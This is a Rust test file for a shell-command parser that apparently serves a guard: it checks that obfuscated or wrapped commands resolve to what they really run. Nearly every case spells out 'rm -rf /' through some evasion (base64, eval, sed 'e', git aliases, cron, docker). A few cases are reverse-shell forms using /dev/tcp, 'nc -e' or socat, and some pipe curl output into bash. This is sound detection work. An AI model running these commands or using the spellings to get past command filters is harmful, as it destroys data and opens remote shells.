//! What the reader makes of commands, case by case.

#![allow(clippy::indexing_slicing)]

use sentry_command::RedirectKind;
use sentry_command::{Folder, Opaque, Outline, Reading, read, read_text};

/// The commands of a shell text: words joined by `|`.
fn commands(text: &str) -> Vec<String> {
    shown(&read_text(text))
}

fn shown(reading: &Reading) -> Vec<String> {
    reading
        .commands
        .iter()
        .map(|command| command.texts().join("|"))
        .collect()
}

/// Each text with the commands that it runs.
fn check(cases: &[(&str, &[&str])]) {
    let wrong: Vec<String> = cases
        .iter()
        .filter(|(text, wanted)| commands(text) != *wanted)
        .map(|(text, wanted)| {
            format!(
                "{text:?}\n  read:   {:?}\n  wanted: {wanted:?}",
                commands(text)
            )
        })
        .collect();
    assert!(
        wrong.is_empty(),
        "{} of {} differ\n{}",
        wrong.len(),
        cases.len(),
        wrong.join("\n")
    );
}

#[test]
fn quotes_and_escapes() {
    check(&[
        ("rm -rf /", &["rm|-rf|/"]),
        ("'rm' -rf /", &["rm|-rf|/"]),
        ("r''m -rf \"/\"", &["rm|-rf|/"]),
        ("r\\m -rf /", &["rm|-rf|/"]),
        ("$'rm' -rf /", &["rm|-rf|/"]),
        ("$'\\x72\\155' -rf /", &["rm|-rf|/"]),
        ("rm -rf \\\n  /", &["rm|-rf|/"]),
        ("rm${IFS}-rf${IFS}/", &["rm|-rf|/"]),
        ("rm$IFS$9-rf$IFS$9/", &["rm|-rf|/"]),
        ("{rm,-rf,/}", &["rm|-rf|/"]),
        ("rm -rf $HOME/{*,.*}", &["rm|-rf|$HOME/*|$HOME/.*"]),
        ("echo {a,{b,c}}{1..3}", &["echo|a1|a2|a3|b1|b2|b3|c1|c2|c3"]),
        ("echo \"a b\" c", &["echo|a b|c"]),
        ("echo \"a\\\"b\" 'c\\d'", &["echo|a\"b|c\\d"]),
        ("echo ~ \"~\"", &["echo|~|./~"]),
        (
            "git commit -m 'fix; rm -rf / is caught now'",
            &["git|commit|-m|fix; rm -rf / is caught now"],
        ),
    ]);
}

#[test]
fn a_file_behind_an_ampersand_is_written() {
    for (text, kind) in [
        ("a >& /dev/tcp/192.0.2.1/9 0>&1", RedirectKind::Write),
        ("a >&f", RedirectKind::Write),
        ("a >&2", RedirectKind::Duplicate),
        ("a 2>&1", RedirectKind::Duplicate),
        ("a 2>&1-", RedirectKind::Duplicate),
        ("a >&-", RedirectKind::Duplicate),
        ("a >&$fd", RedirectKind::Duplicate),
    ] {
        let reading = read_text(text);
        let redirects = &reading.commands[0].redirects;
        assert_eq!(redirects[0].kind, kind, "{text}");
    }
}

#[test]
fn lists_pipes_and_redirections() {
    check(&[
        ("a; b && c || d & e", &["a", "b", "c", "d", "e"]),
        (">/dev/null rm -rf /", &["rm|-rf|/"]),
        ("2>/dev/null rm -rf ~", &["rm|-rf|~"]),
        ("rm -rf ~>/dev/null", &["rm|-rf|~"]),
        ("a 2>&1 | b |& c", &["a", "b", "c"]),
        ("# rm -rf /\nls", &["ls"]),
        ("echo a#b # c", &["echo|a#b"]),
        ("FOO=1 BAR=2 rm -rf /", &["rm|-rf|/"]),
        ("> file", &[""]),
        ("a &> f; b", &["a", "b"]),
    ]);
    let reading = read_text("curl x | tee y | sudo bash; ls");
    assert_eq!(reading.pipelines.len(), 1);
    assert_eq!(reading.pipelines[0].stages, [0..1, 1..2, 2..3]);
}

#[test]
fn compound_commands_are_transparent() {
    check(&[
        ("case x in x) rm -rf /;; esac", &["rm|-rf|/"]),
        (
            "case $1 in a|b) a ;; (c) b ;; *) c; esac; d",
            &["a", "b", "c", "d"],
        ),
        ("until rm -rf /; do :; done", &["rm|-rf|/", ":"]),
        ("if rm -rf /; then :; fi", &["rm|-rf|/", ":"]),
        (
            "if false; then :; elif rm -rf /; then :; else x; fi; y",
            &["false", ":", "rm|-rf|/", ":", "x", "y"],
        ),
        ("for f in a b; do rm $f; done", &["rm|b", "rm|a"]),
        ("for ((i=0; i<3; i++)); do a; done", &["a"]),
        ("{ a; b; }; (c; d)", &["a", "b", "c", "d"]),
        ("[[ -f x && y < z ]] && rm x", &["rm|x"]),
        ("(( x = 1 )); a", &["a"]),
        ("! a; time b; coproc c", &["a", "b", "c"]),
        ("while read l; do a; done < f", &["read|l", "a", ""]),
        ("f() { rm -rf \"$1\"; }; f /", &["rm|-rf|", "rm|-rf|/"]),
        ("function f { rm -rf $1; }; f /", &["rm|-rf", "rm|-rf|/"]),
        ("f() ( a ); f", &["a", "a"]),
        ("alias x='rm -rf /'; x", &["alias|x=rm -rf /", "rm|-rf|/"]),
        ("trap 'rm -rf /' EXIT", &["rm|-rf|/"]),
        (":(){ :|:& };:", &[":", ":", ":", ":"]),
    ]);
}

#[test]
fn substitutions_come_before_the_command_that_uses_them() {
    check(&[
        ("a $(b $(c))", &["c", "b|$()", "a|$()"]),
        ("a `b \\`c\\``", &["c", "b|$()", "a|$()"]),
        ("a \"$(b \"c d\")\" e", &["b|c d", "a|$()|e"]),
        ("a <(b) >(c)", &["b", "c", "a|/dev/fd/63|/dev/fd/63"]),
        ("$(echo rm) -rf /", &["echo|rm", "rm|-rf|/"]),
        ("a $((1 + $(b)))", &["b", "a|$(())"]),
        ("a $((b) | (c))", &["b", "c", "a|$()"]),
        ("a ${x:-$(b)}", &["b", "a|$()"]),
        ("x=$(a)", &["a"]),
        ("[ \"$(a)\" ] && b", &["a", "[|$()|]", "b"]),
    ]);
}

#[test]
fn constants_are_resolved() {
    check(&[
        ("x=rm; $x -rf /", &["rm|-rf|/"]),
        ("x='rm -rf /'; $x", &["rm|-rf|/"]),
        ("x=~; rm -rf $x", &["rm|-rf|$HOME"]),
        ("rm -rf a={o,p}", &["rm|-rf|a=o|a=p"]),
        ("x='a b'; c \"$x\" $x", &["c|a b|a|b"]),
        ("a=r; b=m; $a$b -rf /", &["rm|-rf|/"]),
        ("a=r; a+=m; $a -rf /", &["rm|-rf|/"]),
        ("x=foorm; ${x#foo} -rf /", &["rm|-rf|/"]),
        ("x=rmbar; ${x:0:2} -rf /", &["rm|-rf|/"]),
        ("x=axb; echo ${x/x/y} ${x^^}", &["echo|ayb|AXB"]),
        ("r${zz}m -rf /", &["rm|-rf|/", "r${zz}m|-rf|/"]),
        ("r$@m -rf /", &["rm|-rf|/"]),
        ("x=rm y=x; ${!y} -rf /", &["rm|-rf|/"]),
        (
            "echo cm0gLXJmIC8K | base64 -d | sh",
            &["echo|cm0gLXJmIC8K", "base64|-d", "sh", "rm|-rf|/"],
        ),
        (
            "printf '\\162\\155 -rf /' | bash",
            &["printf|\\162\\155 -rf /", "bash", "rm|-rf|/"],
        ),
        (
            "echo '/ fr- mr' | rev | sh",
            &["echo|/ fr- mr", "rev", "sh", "rm|-rf|/"],
        ),
        (
            "echo 'sn -sg /' | tr sng rmf | sh",
            &["echo|sn -sg /", "tr|sng|rmf", "sh", "rm|-rf|/"],
        ),
        ("bash <<< 'rm -rf /'", &["rm|-rf|/"]),
        ("bash <<EOF\nrm -rf /\nEOF", &["rm|-rf|/"]),
        ("bash <(echo rm -rf /)", &["echo|rm|-rf|/", "rm|-rf|/"]),
        (
            "echo 'rm -rf /' > /tmp/x; sh /tmp/x",
            &["echo|rm -rf /", "rm|-rf|/"],
        ),
        ("eval 'rm -rf' /", &["rm|-rf|/"]),
        ("set -- rm -rf /; \"$@\"", &["set|--|rm|-rf|/", "rm|-rf|/"]),
        ("bash -c '\"$@\"' _ rm -rf /", &["rm|-rf|/"]),
        ("bash -c 'rm -rf $0' /", &["rm|-rf|/"]),
        (
            "x=ls; false && x=rm; $x -rf /",
            &["false", "ls|-rf|/", "rm|-rf|/"],
        ),
        (
            "for x in rm ls; do $x -rf /; done",
            &["ls|-rf|/", "rm|-rf|/"],
        ),
        ("read x <<< /; rm -rf $x", &["read|x", "rm|-rf|/"]),
        ("echo / | xargs rm -rf", &["echo|/", "rm|-rf|/"]),
        ("echo / | xargs -I{} rm -rf {}", &["echo|/", "rm|-rf|/"]),
    ]);
}

#[test]
fn here_documents_are_text() {
    check(&[
        ("cat > n.md <<'EOF'\nrm -rf /\nEOF", &["cat"]),
        ("cat <<-\"EOF\" > x\n\trm -rf /\n\tEOF\nls", &["cat", "ls"]),
        ("cat <<EOF\n$(a) `b` \\$(c)\nEOF", &["a", "b", "cat"]),
        (
            "gh api -f body=\"$(cat <<'EOF'\n`rm -rf /`\nEOF\n)\"",
            &["cat", "gh|api|-f|body=`rm -rf /`"],
        ),
        ("python3 - <<'PY'\nrm -rf /\nPY\nls", &["python3|-", "ls"]),
        ("cat <<A; cat <<B\na\nA\nb\nB\nls", &["cat", "cat", "ls"]),
        ("cat <<EOF | sh\nrm -rf /\nEOF", &["cat", "rm|-rf|/"]),
    ]);
}

#[test]
fn wrappers_give_way() {
    check(&[
        ("sudo -u root rm -rf /", &["rm|-rf|/"]),
        (
            "sudo FOO=1 nohup nice -n 5 timeout -k 1 5 rm -rf /",
            &["rm|-rf|/"],
        ),
        ("stdbuf -oL rm -rf ~", &["rm|-rf|~"]),
        ("unshare -r rm -rf /", &["unshare|-r|rm|-rf|/", "rm|-rf|/"]),
        ("flock /tmp/l rm -rf /", &["rm|-rf|/"]),
        ("flock /tmp/l -c 'rm -rf /'", &["rm|-rf|/"]),
        ("watch rm -rf /", &["rm|-rf|/"]),
        ("env -i A=b rm -rf /", &["rm|-rf|/"]),
        ("env -S 'rm -rf /'", &["rm|-rf|/"]),
        ("command -v rm", &["command|-v|rm"]),
        ("exec -a x rm -rf /", &["rm|-rf|/"]),
        ("busybox rm -rf /", &["rm|-rf|/"]),
        ("su - root -c 'rm -rf /'", &["rm|-rf|/"]),
        (
            "script -qc 'rm -rf /' /dev/null",
            &["script|-qc|rm -rf /|/dev/null", "rm|-rf|/"],
        ),
        (
            "ssh -p 22 host 'rm -rf /'",
            &["ssh|-p|22|host|rm -rf /", "rm|-rf|/"],
        ),
        (
            "docker exec -it c sh -c 'rm -rf /'",
            &["docker|exec|-it|c|sh|-c|rm -rf /", "rm|-rf|/"],
        ),
        (
            "docker run -v /:/host alpine rm -rf /host",
            &["docker|run|-v|/:/host|alpine|rm|-rf|/host", "rm|-rf|/host"],
        ),
        ("env -S rm -rf /", &["rm|-rf|/"]),
        ("env -S 'rm -rf' /", &["rm|-rf|/"]),
        (
            "docker run --entrypoint sh img -c 'rm -rf /'",
            &["docker|run|--entrypoint|sh|img|-c|rm -rf /", "rm|-rf|/"],
        ),
        (
            "git bisect run rm -rf /",
            &["git|bisect|run|rm|-rf|/", "rm|-rf|/"],
        ),
        ("docker ps", &["docker|ps"]),
        (
            "docker compose -f a.yml exec web rm -rf /",
            &["docker|compose|-f|a.yml|exec|web|rm|-rf|/", "rm|-rf|/"],
        ),
        (
            "bwrap --ro-bind / / rm -rf /",
            &["bwrap|--ro-bind|/|/|rm|-rf|/", "rm|-rf|/"],
        ),
        (
            "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /",
            &["/bin/rm|-rf|/"],
        ),
        ("setpriv --reuid 0 rm -rf /", &["rm|-rf|/"]),
        ("poetry run rm -rf /", &["poetry|run|rm|-rf|/", "rm|-rf|/"]),
        (
            "tmux new -d 'rm -rf /'",
            &["tmux|new|-d|rm -rf /", "rm|-rf|/"],
        ),
        (
            "screen -dmS x rm -rf /",
            &["screen|-dmS|x|rm|-rf|/", "rm|-rf|/"],
        ),
        ("xterm -e rm -rf /", &["xterm|-e|rm|-rf|/", "rm|-rf|/"]),
        (
            "echo '* * * * * rm -rf /' | crontab -",
            &["echo|* * * * * rm -rf /", "crontab|-", "rm|-rf|/"],
        ),
        (
            "kubectl exec pod -- rm -rf /",
            &["kubectl|exec|pod|--|rm|-rf|/", "rm|-rf|/"],
        ),
        (
            "find / -type d -exec rm -rf {} \\;",
            &["find|/|-type|d|-exec|rm|-rf|{}|;", "rm|-rf|/"],
        ),
        (
            "find / -name x -exec rm -rf {} \\;",
            &["find|/|-name|x|-exec|rm|-rf|{}|;", "rm|-rf|/$()/$()"],
        ),
        ("bash -lc -- 'rm -rf /'", &["rm|-rf|/"]),
        ("bash -exc 'rm -rf /'", &["rm|-rf|/"]),
        ("bash script.sh x", &["bash|script.sh|x"]),
        ("curl x | bash -s -- y", &["curl|x", "bash|-s|--|y"]),
        ("sudo -l", &["sudo|-l"]),
        (
            "find . -print0 | xargs -0 rm -f",
            &["find|.|-print0", "rm|-f|."],
        ),
        (
            "find . -name x | xargs rm -f",
            &["find|.|-name|x", "rm|-f|$()"],
        ),
    ]);
}

#[test]
fn programs_that_are_no_shells_run_commands() {
    let runs = [
        "mysql -u root -e '\\! rm -rf /'",
        "mysql -e '\\! rm -rf /'",
        "mysql --execute='system rm -rf /'",
        "mysql <<< '\\! rm -rf /'",
        "echo 'system rm -rf /' | mysql",
        "psql -c '\\! rm -rf /'",
        "psql <<< '\\! rm -rf /'",
        "sqlite3 -cmd '.shell rm -rf /' db",
        "echo '.system rm -rf /' | sqlite3 db",
        "gdb --batch --ex 'shell rm -rf /'",
        "gdb -ex 'python import os; os.system(\"rm -rf /\")'",
        "vim -es -c 'silent !rm -rf /' -c q",
        "vim -c ':call system(\"rm -rf /\")'",
        "nvim --headless '+!rm -rf /' +qa",
        "emacs --batch --eval '(shell-command \"rm -rf /\")'",
        "ex -s <<< '!rm -rf /'",
        "printf '!%s\\nq\\n' 'rm -rf /' | ed",
        "less '+!rm -rf /' f",
        "sed '1e rm -rf /' f",
        "sed -n '/x/,$!erm -rf /' f",
        "sed 's/a/b/;$e rm -rf /' f",
        "sed -n 's|.*|rm -rf /|ep' f",
        "sed --expression='1e rm -rf /' f",
        "git -c pager.log='rm -rf /' log",
        "git config --global alias.x '!rm -rf /'",
        "git difftool --extcmd='rm -rf /'",
        "git clone 'ext::rm -rf / %S'",
        "git bisect run sh -c 'rm -rf /'",
        "make --eval='x:; rm -rf /' x",
        "make --eval='$(shell rm -rf /)'",
        "make -f - <<< $'all:\\n\\t@rm -rf /'",
        "split --filter='rm -rf /' f",
        "sort --compress-program='rm -rf /' f",
        "ansible all -m shell -a 'rm -rf /'",
        "yt-dlp --exec 'rm -rf /' u",
        "ftp <<< '!rm -rf /'",
        "lftp -c '!rm -rf /'",
        "crontab <<< '@daily rm -rf /'",
        "crontab <(echo '@daily rm -rf /')",
        "start-stop-daemon -n x -S -x /bin/rm -- -rf /",
        "start-stop-daemon --start --exec=/bin/rm -- -rf /",
        "fd . -x sh -c 'rm -rf /'",
        "fd x --exec-batch rm -rf /",
        "watch -x sh -c 'rm -rf /'",
        "tmux send-keys -t x 'rm -rf /' Enter",
        "npm exec -- rm -rf /",
        "nix develop -c rm -rf /",
        "gnome-terminal -- rm -rf /",
        "entr -s 'rm -rf /'",
        "watchexec 'rm -rf /'",
        "nodemon --exec 'rm -rf /'",
        "cross-env A=b rm -rf /",
        "ip netns exec x rm -rf /",
        "sandbox-exec -f x rm -rf /",
    ];
    for text in runs {
        let found = commands(text);
        let is_rm = |command: &String| command.trim_start_matches("/bin/").starts_with("rm|-rf|/");
        assert!(found.iter().any(is_rm), "{text} {found:?}");
        assert!(
            Outline::of(["sh", "-c", text].into_iter()).is_none_or(|outline| {
                let words = outline.words.join("|");
                words.contains("rm|-rf|/")
            }),
            "{text}"
        );
    }
    check(&[
        (
            "sed -n 1,5p e2e/example.txt",
            &["sed|-n|1,5p|e2e/example.txt"],
        ),
        ("sed 's/a/e/g;s/e/b/' f", &["sed|s/a/e/g;s/e/b/|f"]),
        ("sed '/end/d;y/abc/xye/' f", &["sed|/end/d;y/abc/xye/|f"]),
        (
            "sed -i -e 's/;e /x/' -f e f",
            &["sed|-i|-e|s/;e /x/|-f|e|f"],
        ),
        ("make -j4 all", &["make|-j4|all"]),
        ("npm install x", &["npm|install|x"]),
        ("fd -e py x", &["fd|-e|py|x"]),
        ("crontab -l", &["crontab|-l"]),
        ("script /dev/null", &["script|/dev/null"]),
        (
            "start-stop-daemon --stop -p f",
            &["start-stop-daemon|--stop|-p|f"],
        ),
    ]);
}

#[test]
fn argument_lists_are_exact() {
    assert_eq!(
        shown(&read(&["git", "commit", "-m", "(rm -rf /)"])),
        ["git|commit|-m|(rm -rf /)"]
    );
    assert_eq!(
        shown(&read(&["bash", "-c", "ls; rm -rf /"])),
        ["ls", "rm|-rf|/"]
    );
    assert_eq!(
        shown(&read(&["curl", "http://x", "|", "bash"])),
        ["curl|http://x", "bash"]
    );
    assert_eq!(
        shown(&read(&["find", ".", "-exec", "a", "{}", ";", "-print"])),
        ["find|.|-exec|a|{}|;|-print", "a|."]
    );
    assert_eq!(
        shown(&read(&["stdbuf", "-oL", "rm", "-rf", "/"])),
        ["rm|-rf|/"]
    );
    assert!(read(&[]).commands.is_empty());
}

#[test]
fn what_is_not_known_is_said() {
    assert_eq!(read_text("$x -rf /").opaque, [Opaque::UnknownProgram]);
    assert_eq!(
        read_text("eval \"$(curl x)\"").opaque,
        [Opaque::UnknownText]
    );
    assert_eq!(read_text("echo ${x@P}").opaque, [Opaque::UnknownText]);
    assert_eq!(read_text("echo 'a").opaque, [Opaque::Unfinished]);
    assert_eq!(read_text("a | b && c; (d)").opaque, []);
    let reading = read_text("eval \"$(curl x)\"");
    let eval = &reading.commands[1];
    assert_eq!(
        eval.unknown_text.as_ref().map(|text| text.lists.as_slice()),
        Some([reading.commands[0].list].as_slice())
    );
}

#[test]
fn xargs_takes_its_words_from_what_it_reads() {
    check(&[
        (
            "printf 'a\\n/\\n' | xargs -I{} rm -rf {}",
            &["printf|a\\n/\\n", "rm|-rf|a", "rm|-rf|/"],
        ),
        ("echo \"'/'\" | xargs rm", &["echo|'/'", "rm|/"]),
        ("echo 'a b,/' | xargs -d, rm", &["echo|a b,/", "rm|a b|/"]),
        (
            "printf 'a b' | xargs -d '\\n' rm",
            &["printf|a b", "rm|a b"],
        ),
        (
            "printf 'a b\\0c' | xargs -0 rm",
            &["printf|a b\\0c", "rm|a|b|c"],
        ),
        (
            "echo / > f; echo x | xargs -a f rm",
            &["echo|/", "echo|x", "rm|/"],
        ),
        ("echo x | xargs --arg-file=f rm", &["echo|x", "rm|$()"]),
        ("xargs rm <<< /", &["rm|/"]),
        ("echo / | xargs -n1 sudo rm", &["echo|/", "rm|/"]),
    ]);
}

#[test]
fn texts_of_variables_and_options_are_read() {
    check(&[
        (
            "GIT_SSH_COMMAND='rm -rf /' git fetch",
            &["git|fetch", "rm|-rf|/"],
        ),
        ("env PAGER='rm -rf /' git log", &["git|log", "rm|-rf|/"]),
        (
            "export PROMPT_COMMAND='rm -rf /'",
            &["export|PROMPT_COMMAND=rm -rf /", "rm|-rf|/"],
        ),
        ("PS4='$(rm -rf /)' bash -xc ls", &["rm|-rf|/", ":|", "ls"]),
        (
            "BASH_ENV='$(rm -rf /)' bash -c ls",
            &["rm|-rf|/", ":|", "ls"],
        ),
        ("FOO='rm -rf /' ls", &["ls"]),
        ("EDITOR=$X git commit", &["git|commit"]),
        (
            "tar xf a --to-command='rm -rf /'",
            &["tar|xf|a|--to-command=rm -rf /", "rm|-rf|/"],
        ),
        (
            "tar cf a b --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
            &[
                "tar|cf|a|b|--checkpoint=1|--checkpoint-action=exec=rm -rf /",
                "rm|-rf|/",
            ],
        ),
        (
            "git -c core.sshCommand='rm -rf /' fetch",
            &["git|-c|core.sshCommand=rm -rf /|fetch", "rm|-rf|/"],
        ),
        (
            "git -c alias.x='!rm -rf /' x",
            &["git|-c|alias.x=!rm -rf /|x", "rm|-rf|/"],
        ),
        (
            "ssh -o ProxyCommand='rm -rf /' h",
            &["ssh|-o|ProxyCommand=rm -rf /|h", "rm|-rf|/"],
        ),
        (
            "vim -c ':!rm -rf /' f",
            &["vim|-c|:!rm -rf /|f", "rm|-rf|/"],
        ),
        (
            "rsync -e 'rm -rf /' a b",
            &["rsync|-e|rm -rf /|a|b", "rm|-rf|/"],
        ),
        (
            "socat TCP:h:1 EXEC:'sh -i'",
            &["socat|TCP:h:1|EXEC:sh -i", "sh|-i"],
        ),
        ("nc -e /bin/sh h 1", &["nc|-e|/bin/sh|h|1", "/bin/sh"]),
    ]);
    let changed = |text: &str| {
        let reading = read_text(text);
        reading
            .commands
            .last()
            .is_some_and(|command| command.is_environment_changed)
    };
    assert!(changed("PATH=/tmp:$PATH; git status"));
    assert!(changed("export LD_PRELOAD=/tmp/x; git status"));
    assert!(!changed("FOO=1; export BAR=2; git status"));
}

#[test]
fn a_group_reads_what_is_redirected_to_it() {
    check(&[
        ("{ bash; } <<< 'rm -rf /'", &["", "rm|-rf|/"]),
        ("(bash) <<< 'rm -rf /'", &["", "rm|-rf|/"]),
        (
            "if true; then sh; fi <<< 'rm -rf /'",
            &["", "true", "rm|-rf|/"],
        ),
        (
            "while read l; do $l; done <<< 'rm -rf /'",
            &["", "read|l", "rm|-rf|/"],
        ),
        (
            "while read l; do $l; done <<'EOF'\nls\nrm -rf /\nEOF",
            &["", "read|l", "rm|-rf|/", "ls"],
        ),
        ("while read l; do a $l; done < f", &["read|l", "a|$l", ""]),
        ("for i in 1; do cat; done < f", &["cat", ""]),
        ("{ { bash; }; } <<< 'rm -rf /'", &["", "rm|-rf|/"]),
        (
            "{ echo 'rm -rf /'; } | { bash; }",
            &["echo|rm -rf /", "rm|-rf|/"],
        ),
        (
            "{ python3; } <<< 'os.system(\"id\")'",
            &["", "python3", "id"],
        ),
    ]);
}

#[test]
fn what_is_set_anew_is_not_taken_for_what_it_was() {
    check(&[
        ("a=(ls rm); ${a[1]} -rf /", &["rm|-rf|/"]),
        ("a=(rm ls); ${a[0]} -rf /", &["rm|-rf|/"]),
        ("a[0]=rm a[1]=/; \"${a[@]}\"", &["${a[@]}"]),
        (
            "x=ls; printf -v x rm; $x -rf /",
            &["printf|-v|x|rm", "rm|-rf|/"],
        ),
        (
            "x=ls; printf -v x $y; $x -rf /",
            &["printf|-v|x|$y", "$x|-rf|/"],
        ),
        ("unset x; rm -rf /$x", &["unset|x", "rm|-rf|/"]),
        ("x=; ${x:-rm} -rf /", &["rm|-rf|/"]),
        (
            "f() { shift; rm $1; }; f a /",
            &["shift", "rm", "shift", "rm|/"],
        ),
        ("set -e /; rm $1", &["set|-e|/", "rm|/"]),
        ("eval set -- /; rm $1", &["set|--|/", "rm|/"]),
        ("for d in /*; do rm -rf $d; done", &["rm|-rf|/*"]),
        (
            "alias x='rm -rf'; x /a; x /",
            &["alias|x=rm -rf", "rm|-rf|/a", "rm|-rf|/"],
        ),
        ("alias ls='ls -l'; ls a", &["alias|ls=ls -l", "ls|-l|a"]),
        (
            "find . -name x -exec sh -c 'rm {}' \\;",
            &["find|.|-name|x|-exec|sh|-c|rm {}|;", "rm|./$()/$()"],
        ),
        (
            "find a -exec rm b \\; -exec ls {} +",
            &["find|a|-exec|rm|b|;|-exec|ls|{}|+", "rm|b", "ls|a"],
        ),
    ]);
    let folder = |text: &str| read_text(text).commands.pop().map(|command| command.folder);
    let at = |path: &str| Some(Folder::At(path.into()));
    assert_eq!(folder("sh -c 'cd /tmp'; rm x"), Some(Folder::Event));
    assert_eq!(folder("eval 'cd /tmp'; rm x"), at("/tmp"));
    assert_eq!(folder("f() { cd /tmp; }; f; rm x"), at("/tmp"));
    assert_eq!(folder("(cd /tmp); rm x"), Some(Folder::Event));
    assert_eq!(read_text("/bin/r? -rf /").opaque, [Opaque::UnknownProgram]);
}

/// Spellings that bash runs, found by trying each in bash.
#[test]
fn rare_spellings_are_read() {
    check(&[
        ("coproc X { rm -rf /; }", &["rm|-rf|/"]),
        ("coproc X (rm -rf /)", &["rm|-rf|/"]),
        ("coproc rm -rf /", &["rm|-rf|/"]),
        ("time -p rm -rf /", &["rm|-rf|/"]),
        ("{fd}>x rm -rf /", &["rm|-rf|/"]),
        ("x='rm -rf /'; sh <<<$x", &["rm|-rf|/"]),
        ("${PATH:+rm} -rf /", &["-rf|/", "rm|-rf|/"]),
        ("a=(rm -rf /); \"${a[@]}\"", &["rm|-rf|/"]),
        ("a=(-rf /); rm \"${a[@]}\" x", &["rm|-rf|/|x"]),
        (": $[ $(rm -rf /) 1 ]", &["rm|-rf|/", ":|$(())|1|]"]),
        (
            "echo ${a[$(rm -rf /)]}",
            &["rm|-rf|/", "echo|${a[$(rm -rf /)]}"],
        ),
        ("ls @($(rm -rf /))", &["rm|-rf|/", "ls|@"]),
        ("echo 'rm -rf /' > s; . ./s", &["echo|rm -rf /", "rm|-rf|/"]),
        (
            "echo 'rm -rf /' > s; ./s",
            &["echo|rm -rf /", "./s", "rm|-rf|/"],
        ),
        (
            "echo 'rm -rf /' > s; bash < s",
            &["echo|rm -rf /", "rm|-rf|/"],
        ),
        ("read a b <<< 'rm -rf /'; $a $b", &["read|a|b", "rm|-rf|/"]),
        (
            "echo 'rm -rf /' | tee s; sh s",
            &["echo|rm -rf /", "tee|s", "rm|-rf|/"],
        ),
        (
            "echo 'rm -rf /' > s; echo ls >> ./s; sh s",
            &["echo|rm -rf /", "echo|ls", "rm|-rf|/", "ls"],
        ),
        ("parallel rm -rf ::: / x", &["rm|-rf|/"]),
        ("parallel ::: 'rm -rf /'", &["rm|-rf|/"]),
        ("parallel 'rm -rf {}' ::: /", &["rm|-rf|/"]),
        ("runuser -u root -- rm -rf /", &["rm|-rf|/"]),
        ("runuser root -c 'rm -rf /'", &["rm|-rf|/"]),
        (
            "echo \"$({ id; })\" | rm -rf /",
            &["id", "echo|$()", "rm|-rf|/"],
        ),
        ("(if a; then b; fi); rm -rf /", &["a", "b", "rm|-rf|/"]),
        ("(for x in y; do a; done) | rm -rf /", &["a", "rm|-rf|/"]),
        (
            "cat <({ a; }) | rm -rf /",
            &["a", "cat|/dev/fd/63", "rm|-rf|/"],
        ),
        ("(case x in y) a;; esac) && rm -rf /", &["a", "rm|-rf|/"]),
        (
            "find / -exec sh -c 'rm -rf {}' \\;",
            &["find|/|-exec|sh|-c|rm -rf {}|;", "rm|-rf|/"],
        ),
    ]);
}
